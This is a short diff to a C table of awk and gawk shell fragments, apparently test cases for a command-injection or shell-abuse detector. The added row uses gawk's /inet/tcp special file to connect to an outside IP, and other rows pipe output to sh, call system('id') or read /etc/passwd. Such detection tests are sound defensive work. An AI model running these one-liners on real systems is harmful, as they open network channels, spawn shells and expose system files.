@@ -262,6 +262,7 @@ static const struct rows tables[] = {
 		"| awk -F'|' '{print $1}'", "| gawk '{print $1;}'",
 		"| awk -- '{print $1}'"),
 	    LIST("awk", "| awk", "awk '{print $1}'", "awk '{print $1}' /etc/passwd",
+		"gawk '{print $1}' /inet/tcp/0/198.51.100.7/80",
 		"| awk '{system(\"id\")}'", "| awk '{print $1 > \"/tmp/x\"}'",
 		"| awk '{print $1 >> \"/tmp/x\"}'", "| awk '{print $1 | \"sh\"}'",
 		"| awk '{print | \"sh\"}'", "| awk '{\"id\" | getline}'",
